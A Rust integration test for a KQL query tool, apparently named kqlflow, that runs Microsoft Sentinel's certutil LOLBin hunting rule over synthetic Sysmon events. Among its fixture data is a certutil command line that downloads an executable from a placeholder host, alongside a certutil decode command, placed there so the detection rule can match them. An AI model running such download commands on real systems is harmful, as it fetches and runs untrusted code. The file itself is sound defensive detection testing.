//! Sentinel's Sysmon rules end to end: Windows event data read with `parse_xml`, expanded,
//! unpacked with `evaluate bag_unpack` and pivoted with `evaluate pivot`, run by both engines
//! over an `Event` log file.

use std::process::Command;

fn kqlflow(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_kqlflow"))
        .args(args)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// An Event record of a Sysmon event with these data items.
fn sysmon(t: &str, computer: &str, id: u32, data: &[(&str, &str)]) -> String {
    let items: String = data
        .iter()
        .map(|(n, v)| format!("<Data Name=\"{n}\">{v}</Data>"))
        .collect();
    serde_json::json!({
        "TimeGenerated": t,
        "Source": "Microsoft-Windows-Sysmon",
        "EventLog": "Microsoft-Windows-Sysmon/Operational",
        "Computer": computer,
        "EventLevel": 4,
        "EventLevelName": "Information",
        "EventID": id,
        "UserName": "CONTOSO\\alice",
        "RenderedDescription": "Process Create: rule",
        "EventData": format!(
            "<DataItem type=\"System.XmlData\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">{items}</EventData></DataItem>"
        ),
    })
    .to_string()
}

/// The query of Sentinel's "Certutil (LOLBins and LOLScripts)" hunting rule.
const CERTUTIL: &str = r#"Event
| where Source == "Microsoft-Windows-Sysmon"
| where EventID == 1
| extend RenderedDescription = tostring(split(RenderedDescription, ":")[0])
| extend EventData = parse_xml(EventData).DataItem.EventData.Data
| mv-expand bagexpansion=array EventData
| evaluate bag_unpack(EventData)
| extend Key=tostring(['@Name']), Value=['#text']
| evaluate pivot(Key, any(Value), TimeGenerated, Source, EventLog, Computer, EventLevel, EventLevelName, EventID, UserName, RenderedDescription, MG, ManagementGroupName, Type, _ResourceId)
| extend RuleName = column_ifexists("RuleName", ""), TechniqueId = column_ifexists("TechniqueId", ""),  TechniqueName = column_ifexists("TechniqueName", "")
| parse RuleName with * 'technique_id=' TechniqueId ',' * 'technique_name=' TechniqueName
| where Image has "certutil.exe"
| project TimeGenerated, Computer, Image = tostring(Image), CommandLine = tostring(CommandLine), TechniqueId, TechniqueName
"#;

#[test]
fn a_sysmon_rule_unpacks_and_pivots_event_data_in_both_engines() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("Event.jsonl");
    let lines = [
        sysmon(
            "2024-05-01T10:00:00Z",
            "host1",
            1,
            &[
                (
                    "RuleName",
                    "technique_id=T1105,technique_name=Remote File Copy",
                ),
                ("Image", "C:\\Windows\\System32\\certutil.exe"),
                ("CommandLine", "certutil -urlcache -f http://x/a.exe a.exe"),
            ],
        ),
        sysmon(
            "2024-05-01T10:01:00Z",
            "host2",
            1,
            &[
                ("RuleName", "-"),
                ("Image", "C:\\Windows\\System32\\notepad.exe"),
            ],
        ),
        // Not a process creation (EventID 3): left out.
        sysmon(
            "2024-05-01T10:02:00Z",
            "host3",
            3,
            &[
                ("Image", "C:\\Windows\\System32\\certutil.exe"),
                ("DestinationIp", "10.0.0.9"),
            ],
        ),
        sysmon(
            "2024-05-01T10:03:00Z",
            "host4",
            1,
            &[
                ("Image", "D:\\tools\\certutil.exe"),
                ("CommandLine", "certutil -decode a b"),
            ],
        ),
    ];
    std::fs::write(&logs, lines.join("\n") + "\n").unwrap();
    let q = dir.path().join("certutil.kql");
    std::fs::write(&q, CERTUTIL).unwrap();
    let (q, logs) = (q.display().to_string(), logs.display().to_string());
    for engine in ["incremental", "batch"] {
        let (code, out, err) = kqlflow(&[
            "run", &q, "--logs", &logs, "--engine", engine, "--format", "csv",
        ]);
        assert_eq!(code, 0, "{engine}: {err}");
        assert_eq!(
            out,
            "TimeGenerated,Computer,Image,CommandLine,TechniqueId,TechniqueName\n\
             2024-05-01T10:00:00Z,host1,C:\\Windows\\System32\\certutil.exe,certutil -urlcache -f http://x/a.exe a.exe,T1105,Remote File Copy\n\
             2024-05-01T10:03:00Z,host4,D:\\tools\\certutil.exe,certutil -decode a b,,\n",
            "{engine}: {err}"
        );
        assert!(
            err.contains("note: bag_unpack's columns depend on the data: bound with the names the rest of the query reads, typed dynamic"),
            "{err}"
        );
        assert!(
            err.contains("note: pivot's columns depend on the data: bound with the names the rest of the query reads as the values of Key"),
            "{err}"
        );
        assert!(err.contains("Image, "), "{err}");
    }
}
